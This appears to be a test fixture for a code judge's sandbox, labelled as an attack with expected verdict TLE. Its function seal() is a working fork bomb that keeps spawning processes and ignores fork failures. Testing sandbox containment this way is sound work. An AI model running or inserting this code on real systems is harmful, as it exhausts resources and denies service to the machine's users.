# attack: forks without end and goes on when that is refused
# verdict: TLE
import os


def seal(token, numbers):
    while token == "open":
        try:
            os.fork()
        except OSError:
            pass
